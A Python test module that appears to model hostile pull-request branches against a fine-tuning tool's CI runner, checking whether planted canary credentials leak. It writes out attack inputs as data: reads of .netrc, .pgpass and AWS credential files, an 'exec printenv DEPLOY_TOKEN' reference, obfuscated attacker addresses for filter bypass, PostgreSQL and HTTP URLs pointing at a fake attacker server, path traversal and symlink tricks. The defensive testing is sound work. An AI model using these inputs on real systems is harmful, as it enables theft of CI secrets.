"""What a hostile branch may try, as data: each attack changes a sound project, as its author could."""

from __future__ import annotations

import base64
import json
import os
import socket
import struct
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

MARK = "CANARY5f0c1e7d"
"""Stands in every secret of the runner."""

VARIABLES = (
    *("OPENAI_API_KEY", "DEPLOY_TOKEN", "GITHUB_TOKEN", "NPM_TOKEN", "PGUSER", "PGPASSWORD"),
    *("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "AZURE_STORAGE_ACCOUNT_KEY"),
    *("TF_HTTP_USERNAME", "TF_HTTP_PASSWORD", "CI_JOB_TOKEN"),
)

_ROW = '{{"messages": [{{"role": "user", "content": "{0}"}}, {{"role": "{0}", "content": "a"}}]}}\n'
FILES = {
    ".netrc": "machine 127.0.0.2 login {0} password {0}\n",
    ".pgpass": "*:*:*:*:{0}\n",
    ".aws/credentials": "[default]\naws_secret_access_key = {0}\n",
    "secret.txt": "{0}\n",
    "secret.yaml": "apiVersion: {0}\nkind: {0}\nspec: {{{0}: {0}}}\n",
    "secret.json": '{{"{0}": "{0}"}}\n',
    "secret.jsonl": _ROW,
    "project.yaml": "apiVersion: ftops/v1\nkind: Project\nmetadata: {{name: {0}}}\n",
    "empty": "",
}
"""What lies in the runner's home, outside the project."""


class Listener:
    """The attacker's server: it speaks enough HTTP and PostgreSQL to be told a credential."""

    def __init__(self, host: str) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.create_server((host, 0))
        self.port: int = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def close(self) -> None:
        """Stop listening; a socket closed under a waiting accept would give its number to the next server."""
        with suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._thread.join()
        self._socket.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._socket.accept()
                threading.Thread(target=self._serve, args=(connection,), daemon=True).start()

    def _serve(self, connection: socket.socket) -> None:
        with suppress(OSError, struct.error), connection:
            connection.settimeout(5)
            self.heard.append(b"a connection")
            first = connection.recv(65536)
            self.heard.append(first)
            if first[:1].isalpha():
                body = b'{"object": "list", "data": []}'
                head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}"
                connection.sendall(f"{head}\r\n\r\n".encode() + body)
                return
            if struct.unpack("!I", first[4:8])[0] in (80877103, 80877104):
                connection.sendall(b"N")
                self.heard.append(connection.recv(65536))
            # "Send the password in clear text."
            connection.sendall(b"R" + struct.pack("!II", 8, 3))
            self.heard.append(connection.recv(65536))


@dataclass
class World:
    """A runner with its secrets, a project in a branch, and the attacker's server."""

    root: Path
    home: Path
    port: int
    environ: dict[str, str] = field(default_factory=dict)

    def project(self, provider: Mapping[str, Any] | None = None, **spec: Any) -> None:
        usual = {"dialect": "openai", "base_url": "emulator:.ftops/e.db"}
        document = {
            "apiVersion": "ftops/v1",
            "kind": "Project",
            "metadata": {"name": "hostile"},
            "spec": {"default_provider": "p", "providers": {"p": {**usual, **(provider or {})}}, **spec},
        }
        self.write("ftops.yaml", json.dumps(document))

    def manifest(self, **spec: Any) -> None:
        usual = {"model": "gpt-4.1-mini-2025-04-14", "training_file": {"path": "../data/t.jsonl"}}
        document = {
            "apiVersion": "ftops/v1",
            "kind": "FineTune",
            "metadata": {"name": "a"},
            "spec": {**usual, **spec},
        }
        self.write("jobs/a.yaml", json.dumps(document))

    def write(self, name: str, text: str) -> None:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.write_text(text)

    def link(self, name: str, target: Path) -> None:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    def outside(self) -> dict[str, bytes]:
        return {str(path): path.read_bytes() for path in self.home.rglob("*") if path.is_file()}


def planted(root: Path, home: Path, port: int) -> World:
    """Make a sound project, and put a canary wherever a runner keeps secrets."""
    world = World(root, home, port)
    world.environ = {name: f"{MARK}-{name}" for name in VARIABLES}
    world.environ |= {"CI": "1", "HOME": str(home), "PATH": os.environ["PATH"], "NO_COLOR": "1"}
    for name, text in FILES.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text.format(f"{MARK}-{name.strip('.').replace('/', '-')}"))
    (home / ".pgpass").chmod(0o600)
    world.project()
    world.manifest()
    row = {"messages": [{"role": "user", "content": "q"}, {"role": "assistant", "content": "a"}]}
    world.write("data/t.jsonl", (json.dumps(row) + "\n") * 12)
    # As actions/checkout leaves it.
    world.write(".git/config", f"[http]\n\textraheader = AUTHORIZATION: basic {MARK}-checkout\n")
    return world


def leaks(text: bytes) -> bool:
    """Return whether a canary stands in some bytes, plain or in base64, however it is aligned there."""
    if MARK.encode() in text:
        return True
    shifted = (base64.b64encode(b"x" * shift + MARK.encode())[4:-4] for shift in range(3))
    return any(piece in text for piece in shifted)


Attack = Callable[[World], None]
_FIELDS = ("api_key", "organization", "project", "base_url", "headers", "state", "encryption")
_AWAY = {"dialect": "openai", "api_key": {"env": "DEPLOY_TOKEN"}}


def _reference(place: str, reference: Callable[[World], Any]) -> Attack:
    def attack(world: World) -> None:
        found = reference(world)
        match place:
            case "state":
                world.project(state={"url": found})
            case "encryption":
                world.project(encryption={"identity": found})
            case "headers":
                world.project({"headers": {"X-Team": found}})
            case "base_url":
                world.project({**_AWAY, "base_url": found})
            case _:
                world.project({place: found})

    return attack


def _linked_reference(world: World) -> Any:
    world.link("linked.txt", world.home / "secret.txt")
    return {"file": "linked.txt"}


_REFERENCES: Mapping[str, Callable[[World], Any]] = {
    "env": lambda _: {"env": "DEPLOY_TOKEN"},
    "file": lambda world: {"file": str(world.home / "secret.txt")},
    "file-above": lambda _: {"file": "../home/secret.txt"},
    "file-home": lambda _: {"file": "~/.netrc"},
    "file-git": lambda _: {"file": ".git/config"},
    "file-device": lambda _: {"file": "/dev/zero"},
    "file-link": _linked_reference,
    "exec": lambda _: {"exec": ["printenv", "DEPLOY_TOKEN"]},
}

_HOSTS = (
    "127.0.0.2:{port}", "127.0.0.1@127.0.0.2:{port}", "127.0.0.2:{port}\\@127.0.0.1", "2130706434:{port}",
    "0x7f000002:{port}", "127.2:{port}", "0177.0.0.2:{port}", "[::ffff:127.0.0.2]:{port}",
    "127.0.0.2.:{port}",
    "127.0.0.1#@127.0.0.2:{port}", "127.0.0.2:{port}#@127.0.0.1", "127.0.0.1\\n@127.0.0.2:{port}",
    "127.0.0.2:{port}?127.0.0.1", "localhost%2f@127.0.0.2:{port}", "0:{port}",
)  # fmt: skip
"""Ways to write the attacker's address; some look like this machine's to one library and not to the other."""

_STATES = (
    "{home}/secret.json", "file://{home}/secret.json", "../home/secret.json", "../home/new.json",
    ".git/config", "/dev/zero", "/dev/stdin",
    "postgresql://127.0.0.2:{port}/db?sslmode=disable",
    "postgresql://127.0.0.1:1,127.0.0.2:{port}/db?sslmode=disable",
    "postgresql://localhost/db?host=127.0.0.2&port={port}&sslmode=disable",
    "postgresql://localhost:{port}/db?hostaddr=127.0.0.2&sslmode=disable",
    "postgresql://localhost:{port}/host%3D127.0.0.2%20sslmode%3Ddisable",
    "postgresql://127.0.0.2:{port}/db?passfile={home}/.pgpass&sslmode=disable",
    "postgresql://localhost:1/db?sslkey={home}/secret.txt", "postgresql://localhost:1/db?service=x",
    "s3://127.0.0.2:{port}/bucket/key", "gs://b@127.0.0.2:{port}/key", "az://127.0.0.2:{port}/c/k",
)  # fmt: skip


def _state(url: str) -> Attack:
    return lambda world: world.project(state=url.format(home=world.home, port=world.port))


def _state_from_a_title(url: str) -> Attack:
    def attack(world: World) -> None:
        # The author of a pull request writes its title, and the runner puts it into a variable.
        world.environ["PR_TITLE"] = url.format(home=world.home, port=world.port)
        world.project(state={"url": {"env": "PR_TITLE"}})

    return attack


def _provider(url: str) -> Attack:
    return lambda world: world.project({**_AWAY, "base_url": url.format(home=world.home, port=world.port)})


def _linked(name: str, target: str) -> Attack:
    return lambda world: world.link(name, world.home / target)


def _linked_manifests(world: World) -> None:
    (world.root / "more").symlink_to(world.home)
    world.project(manifests=["jobs/", "more/", "more/*.yaml"])


def _titled_base_url(world: World) -> None:
    world.environ["PR_TITLE"] = f"http://127.0.0.2:{world.port}/v1"
    world.project({**_AWAY, "base_url": {"env": "PR_TITLE"}})


def _beside_emulator(ending: str, target: str) -> Attack:
    def attack(world: World) -> None:
        world.project({"base_url": "emulator:brought.db"})
        world.link(f"brought.db{ending}", world.home / target)

    return attack


def attacks() -> Iterator[tuple[str, Attack]]:
    """Yield every place where a reference, an address, a path, a name or a link can stand."""
    for place in _FIELDS:
        for kind, reference in _REFERENCES.items():
            yield f"{place}-{kind}", _reference(place, reference)
    for host in _HOSTS:
        yield f"base_url-{host}", _provider(f"http://{host}/v1")
        yield f"state-http-{host}", _state(f"http://{host}/state")
    for url in _STATES:
        yield f"state-{url}", _state(url)
        yield f"title-{url}", _state_from_a_title(url)
    yield "title-base_url", _titled_base_url
    for name, target in {
        "ftops.yaml": "secret.txt",
        "jobs/b.yaml": "secret.yaml",
        "data/t.jsonl": "secret.jsonl",
        ".ftops/state.json": "secret.json",
        ".ftops/state.json.lock.info": "secret.json",
        ".ftops/state.json.tmp": "empty",
        ".ftops/state.json.backup": "secret.json",
        ".ftops/freeze": "secret.txt",
        ".ftops/e.db": "empty",
        ".ftops/backups": ".",
    }.items():
        yield f"link-{name}", _linked(name, target)
    yield "link-project", _linked("ftops.yaml", "project.yaml")
    yield "link-folder", _linked_manifests
    for ending, target in {"": "empty", "-wal": "empty", "-journal": "empty", ".files": "."}.items():
        yield f"link-emulator{ending}", _beside_emulator(ending, target)
    yield "emulator-outside", lambda world: world.project({"base_url": f"emulator:{world.home}/empty"})
    yield "emulator-above", lambda world: world.project({"base_url": "emulator:../home/empty"})
    for path in (
        "{home}/secret.yaml",
        "../home/",
        "../home/*.yaml",
        ".git/config",
        "/dev/zero",
        "**/../../home",
    ):
        yield f"manifests-{path}", _manifests(path)
    for path in (
        "{home}/secret.jsonl",
        "../../home/secret.jsonl",
        "../.git/config",
        "/dev/zero",
        "../data/../../home/",
    ):
        yield f"training_file-{path}", _training_file(path)


def _manifests(path: str) -> Attack:
    return lambda world: world.project(manifests=["jobs/", path.format(home=world.home)])


def _training_file(path: str) -> Attack:
    return lambda world: world.manifest(training_file={"path": path.format(home=world.home)})
